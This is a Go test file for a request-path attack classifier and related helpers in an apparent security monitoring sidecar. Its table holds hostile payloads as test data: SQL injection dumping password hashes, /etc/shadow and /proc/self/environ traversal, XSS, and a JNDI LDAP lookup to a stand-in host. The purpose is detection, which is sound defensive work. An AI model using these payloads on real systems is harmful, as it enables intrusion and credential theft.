package event_test

import (
	"net/netip"
	"testing"

	"github.com/romashka/sidecar/internal/security/event"
)

func TestPayloadOf(t *testing.T) {
	t.Parallel()
	for _, tt := range []struct {
		path string
		want event.Payload
	}{
		{"/rest/v1/conversations/'%20OR%20'1'='1", event.SQL},
		{"/rest/v1/x/1%20UNION%20SELECT%20email,encrypted_password%20FROM%20auth.users--", event.SQL},
		{"/rest/v1/x/1%2520UNION%2520SELECT%2520a%2520FROM%2520b", event.SQL},
		{"/rest/v1/x/1/**/union/**/all/**/select/**/1,2", event.SQL},
		{"/x/1;SELECT%20pg_sleep(5)--", event.SQL},
		{"/x/1'%20AND%201=1--", event.SQL},
		{"/x/admin'--%20", event.SQL},
		{"/x/admin'%23", event.SQL},
		{"/x/1%20or%201=1", event.SQL},
		{"/x/%27;DROP%20TABLE%20users;--", event.SQL},
		{"/x/1'%20waitfor%20delay%20'0:0:5'--", event.SQL},
		{"/x/%3Cscript%3Ealert(1)%3C/script%3E", event.Script},
		{"/x/%22%3E%3Cimg%20src=x%20onerror=alert(1)%3E", event.Script},
		{"/x/%3Csvg/onload=alert(1)%3E", event.Script},
		{"/x/javascript:alert(1)", event.Script},
		{"/x/..%2f..%2f..%2f..%2fetc%2fpasswd", event.Traversal},
		{"/x/%2e%2e/%2e%2e/%2e%2e/windows/win.ini", event.Traversal},
		{"/x/..%252f..%252fetc%252fshadow", event.Traversal},
		{"/x/..%5c..%5cwindows%5csystem.ini", event.Traversal},
		{"/x/..;/manager/html", event.Traversal},
		{"/x/..%2f..%2fproc%2fself%2fenviron", event.Traversal},
		{"/x/file%00.pdf", event.Traversal},
		{"/x/%7B%7B7*7%7D%7D", event.Template},
		{"/x/$%7B7*7%7D", event.Template},
		{"/x/%3C%25=7*7%25%3E", event.Template},
		{"/x/$%7Bjndi:ldap://evil.test/a%7D", event.JNDI},
		{"/x/$%7B$%7Blower:j%7Dndi:ldap://evil.test/a%7D", event.JNDI},
		{"/x/;cat%20/tmp/x", event.Command},
		{"/x/%7Cid", event.Command},
		{"/x/php://filter/convert.base64-encode/resource=index", event.Include},

		{"/storage/v1/object/public/help/credit-union-select-committee.pdf", ""},
		{"/storage/v1/object/public/help/union%20select%20committee.pdf", event.SQL}, // a hint: three are an incident
		{"/storage/v1/object/public/help/o'reilly-or-1-day-delivery.pdf", ""},
		{"/storage/v1/object/public/help/script-for-calls.docx", ""},
		{"/storage/v1/object/public/help/drop-table-lamp.jpg", ""},
		{"/storage/v1/object/public/help/don't--panic.pdf", ""},
		{"/storage/v1/object/public/help/O'Brien%20and%20Sons.pdf", ""},
		{"/storage/v1/object/public/help/rock%20'n'%20roll.mp3", ""},
		{"/storage/v1/object/public/help/50%25%20off.png", ""},
		{"/storage/v1/object/public/help/select%20a%20plan.html", ""},
		{"/storage/v1/object/public/help/insert%20coin.png", ""},
		{"/storage/v1/object/public/help/order%20by%20phone.pdf", ""},
		{"/storage/v1/object/public/help/caf%C3%A9%20(2).pdf", ""},
		{"/storage/v1/object/public/help/image%20of%20onload-ramp.jpg", ""},
		{"/storage/v1/object/public/help/a,b;c=d.csv", ""},
		{"/rest/v1/rpc/get_security_metrics", ""},
		{"/rest/v1/%", ""},
	} {
		t.Run(tt.path, func(t *testing.T) {
			t.Parallel()
			if got := event.PayloadOf(tt.path); got != tt.want {
				t.Errorf("PayloadOf(%q) = %q, want %q", tt.path, got, tt.want)
			}
		})
	}
}

func TestParseAgent(t *testing.T) {
	t.Parallel()
	for _, tt := range []struct {
		text string
		want event.Agent
	}{
		{"Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/138.0.0.0 Safari/537.36", event.Agent{Family: "Chrome", System: "Windows", Device: "desktop"}},
		{"Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/138.0.0.0 Safari/537.36 Edg/138.0.0.0", event.Agent{Family: "Edge", System: "Windows", Device: "desktop"}},
		{"RomashkaApp/4.2 (iOS 18; iPhone15,3)", event.Agent{Family: "RomashkaApp", System: "iOS", Device: "phone"}},
		{"RomashkaApp/4.2 (Android 15; SM-A556B)", event.Agent{Family: "RomashkaApp", System: "Android", Device: "phone"}},
		{"python-requests/2.32.3", event.Agent{Family: "python-requests", Device: "script"}},
		{"python-httpx/0.27.0", event.Agent{Family: "python-httpx", Device: "script"}},
		{"node", event.Agent{Family: "node", Device: "script"}},
		{"sqlmap/1.8.4#stable (https://sqlmap.org)", event.Agent{Family: "sqlmap", Device: "script", Tool: "sqlmap"}},
		{"Nuclei - Open-source project (github.com/projectdiscovery/nuclei) v3.3", event.Agent{Family: "github.com", Device: "script", Tool: "nuclei"}},
		{"", event.Agent{}},
	} {
		got := event.ParseAgent(tt.text)
		if got != tt.want {
			t.Errorf("ParseAgent(%q) = %+v, want %+v", tt.text, got, tt.want)
		}
	}
}

func TestNetwork(t *testing.T) {
	t.Parallel()
	for _, tt := range []struct{ address, network, host string }{
		{"203.0.113.9", "203.0.113.0/24", "203.0.113.9/32"},
		{"::ffff:203.0.113.9", "203.0.113.0/24", "203.0.113.9/32"},
		{"2001:db8:1:2::3", "2001:db8:1::/48", "2001:db8:1:2::/64"},
		{"fe80::1%eth0", "fe80::/48", "fe80::/64"},
	} {
		a := netip.MustParseAddr(tt.address)
		if got := event.Network(a).String(); got != tt.network {
			t.Errorf("Network(%s) = %s, want %s", tt.address, got, tt.network)
		}
		if got := event.Host(a).String(); got != tt.host {
			t.Errorf("Host(%s) = %s, want %s", tt.address, got, tt.host)
		}
	}
	if event.Network(netip.Addr{}).IsValid() {
		t.Error("no address has a network")
	}
}

func TestDistance(t *testing.T) {
	t.Parallel()
	berlin := event.Place{Latitude: 52.52, Longitude: 13.40, Positioned: true}
	tokyo := event.Place{Latitude: 35.68, Longitude: 139.69, Positioned: true}
	if km, ok := berlin.Distance(tokyo); !ok || km < 8900 || km > 8950 {
		t.Errorf("Berlin to Tokyo = %.0f km, %v", km, ok)
	}
	if _, ok := berlin.Distance(event.Place{Country: "JP"}); ok {
		t.Error("a country has no position")
	}
}

func FuzzPayloadOf(f *testing.F) {
	f.Add("/x/%2e%2e%2f%ff%")
	f.Add("/x/1%20or%201=1")
	f.Fuzz(func(_ *testing.T, path string) { event.PayloadOf(path) })
}
